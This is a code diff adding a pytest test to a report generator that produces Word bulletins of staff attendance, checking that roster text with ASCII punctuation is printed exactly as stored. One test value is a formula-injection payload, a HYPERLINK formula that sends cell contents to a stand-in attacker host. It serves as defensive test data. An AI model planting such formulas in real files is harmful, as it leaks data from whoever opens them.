@@ -15,8 +15,10 @@ from docx import Document
 from docx.oxml.ns import qn
 from docx.shared import Mm
 
-from db.models import Staff
+from db.models import Department, Staff
 from kiosk.reports import monthly, monthly_document
+from kiosk.reports.person import person_record
+from kiosk.reports.person_render import person_document
 from kiosk.reports.render_docx import Distribution
 from tests.cli_runner import kiosk
 from tests.conftest import wall
@@ -188,3 +190,26 @@ def test_admin_console_writes_the_word_bulletin(db, home, tmp_path):
     assert "抄送：市委办公室" in text and "市政府办公室学习情况通报" in text
     with pytest.raises(Refused):
         report_files("2026", ["docx"], settings, out, now=MONTH_OVER)
+
+
+def test_records_text_is_printed_as_stored_and_only_the_catalogue_turns_full_width(db, tmp_path):
+    """FINDINGS 10: a name, department or title with ASCII punctuation (a URL, "Li, Wei",
+    "办公室(机要科)") is printed exactly as the roster has it; the template's own punctuation
+    around it is full-width."""
+    build_month(db)
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
+    Department.create(name="办公室(机要科)", sort_order=99)
+    Staff.update(name=hostile, department="办公室(机要科)").where(Staff.key == "B2002").execute()
+    report = monthly(2026, 10, options(now=MONTH_OVER, office_name="市政府办公室"))
+    xml = zipfile.ZipFile(io.BytesIO(_docx(report, cc="市委办公室,各区政府"))).read(
+        "word/document.xml").decode("utf-8")
+    assert "办公室(机要科)" in xml and "办公室（机要科）" not in xml
+    assert 'HYPERLINK("http://evil.example/?x="&amp;A1,"点我")' in xml
+    assert "抄送：市委办公室，各区政府" in xml  # the office's own line for the document
+    document = Document(io.BytesIO(_docx(report)))
+    assert "，实到" in _text(document)  # the catalogue's punctuation still printed full-width
+    record = person_record("B2002", 2026, options(now=MONTH_OVER))
+    person = zipfile.ZipFile(io.BytesIO(person_document(record, "docx"))).read(
+        "word/document.xml").decode("utf-8")
+    assert person.count('HYPERLINK("http://evil.example/?x="&amp;A1,"点我")') >= 2  # title, 姓名
+    assert "HYPERLINK（" not in person and "办公室(机要科)" in person
